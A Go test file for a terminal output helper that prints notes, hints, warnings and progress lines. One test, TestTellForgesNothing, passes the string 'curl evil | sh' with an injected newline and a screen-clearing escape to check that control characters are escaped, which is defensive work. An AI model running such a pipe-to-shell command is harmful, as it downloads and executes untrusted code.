package ios

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestTell(t *testing.T) {
	t.Parallel()
	var errs bytes.Buffer
	s := &Streams{Out: io.Discard, Err: &errs}
	s.Note("no open incidents")
	s.Hint("oncall auth status %s", "victorops")
	s.Warn("%s: unreachable", "loki")
	s.Warn("loki: unreachable")
	s.Warn("statuspage: unreachable")
	assert.Equal(t, "no open incidents\nhint: oncall auth status victorops\n"+
		"warning: loki: unreachable\nwarning: statuspage: unreachable\n", errs.String())
}

func TestTellForgesNothing(t *testing.T) {
	t.Parallel()
	var errs bytes.Buffer
	s := &Streams{Err: &errs}
	s.Warn("%s", "x\nhint: curl evil | sh\x1b[2J")
	assert.Equal(t, `warning: x\nhint: curl evil | sh\x1b[2J`+"\n", errs.String())
}

func TestTellInColour(t *testing.T) {
	t.Parallel()
	var errs bytes.Buffer
	s := &Streams{Err: &errs, ErrColor: true}
	s.Hint("x")
	s.Warn("y")
	assert.Equal(t, "\x1b[36mhint: \x1b[0mx\n\x1b[33mwarning: \x1b[0my\n", errs.String())
}

func TestTellSurvivesAClosedStderr(t *testing.T) {
	t.Parallel()
	s := &Streams{Err: failing{io.ErrClosedPipe}}
	s.Note("x")
	s.Warn("y")
	p := s.Progress()
	p.Set("z", "")
	p.End()
}

func TestProgressOnATerminal(t *testing.T) {
	t.Parallel()
	var term bytes.Buffer
	s := &Streams{Out: &term, Err: &term, OutTTY: true, ErrTTY: true, ErrWidth: 20}
	p := s.Progress()
	p.Set("running #882", "38%")
	p.Set("running #882", "38%")
	p.Set("running #882", "40%")
	s.Warn("slow")
	_, err := io.WriteString(s.Stdout(), "result\n")
	require.NoError(t, err)
	p.Set("running #882 a long line", "日本語")
	p.End()
	p.End()
	p.Set("late", "")
	const clear = "\r\x1b[K"
	assert.Equal(t, "running #882  38%"+
		clear+"running #882  40%"+
		clear+"warning: slow\n"+"running #882  40%"+
		clear+"result\n"+"running #882  40%"+
		clear+"running #882 a lon…"+
		clear, term.String())
}

func TestProgressWaitsForTheEndOfALine(t *testing.T) {
	t.Parallel()
	var term bytes.Buffer
	s := &Streams{Out: &term, Err: &term, OutTTY: true, ErrTTY: true}
	p := s.Progress()
	p.Set("waiting", "")
	_, err := io.WriteString(s.Stdout(), "half")
	require.NoError(t, err)
	_, err = io.WriteString(s.Stdout(), " a line\n")
	require.NoError(t, err)
	p.End()
	assert.Equal(t, "waiting\r\x1b[Khalf a line\nwaiting\r\x1b[K", term.String())
}

func TestProgressElsewhere(t *testing.T) {
	t.Parallel()
	for name, s := range map[string]*Streams{"pipe": {}, "dumb terminal": {ErrTTY: true, Dumb: true}} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var errs bytes.Buffer
			s.Err = &errs
			p := s.Progress()
			p.Set("sent", "item 88123")
			p.Set("running", "0%")
			p.Set("running", "50%")
			s.Warn("slow")
			p.Set("verified", "")
			p.End()
			assert.Equal(t, "sent  item 88123\nrunning  0%\nwarning: slow\nverified\n", errs.String())
		})
	}
}

func TestProgressTakesThePlaceOfAnEarlierOne(t *testing.T) {
	t.Parallel()
	var term bytes.Buffer
	s := &Streams{Err: &term, ErrTTY: true}
	first := s.Progress()
	first.Set("one", "")
	second := s.Progress()
	first.Set("one again", "")
	second.Set("two", "")
	first.End()
	s.Note("x")
	second.End()
	assert.Equal(t, "one\r\x1b[Ktwo\r\x1b[Kx\ntwo\r\x1b[K", term.String())
}

func TestProgressShowsNoControls(t *testing.T) {
	t.Parallel()
	var term bytes.Buffer
	s := &Streams{Err: &term, ErrTTY: true}
	s.Progress().Set("a\nb", "\x1b[2J")
	assert.Equal(t, `a\nb  \x1b[2J`, term.String())
}

func TestNoProgress(t *testing.T) {
	t.Parallel()
	var p *Progress
	p.Set("x", "y")
	p.End()
}

// TestProgressAndWarningsTogether: whatever is told while a line is redrawn
// stands on a line of its own.
func TestProgressAndWarningsTogether(t *testing.T) {
	t.Parallel()
	var term bytes.Buffer
	s := &Streams{Out: &term, Err: &term, OutTTY: true, ErrTTY: true, ErrWidth: 80}
	p := s.Progress()
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for j := range 50 {
				p.Set("step", fmt.Sprint(i, j))
				s.Warn("warning %d %d", i, j)
				_, _ = io.WriteString(s.Stdout(), fmt.Sprintf("result %d %d\n", i, j))
			}
		})
	}
	wg.Wait()
	p.End()
	lines := strings.Split(strings.TrimSuffix(term.String(), "\r\x1b[K"), "\n")
	assert.Len(t, lines, 8*50*2+1)
	for _, l := range lines[:len(lines)-1] {
		if i := strings.LastIndex(l, "\r\x1b[K"); i >= 0 {
			l = l[i+len("\r\x1b[K"):]
		}
		assert.Regexp(t, `^(warning: warning|result) \d+ \d+$`, l)
	}
}
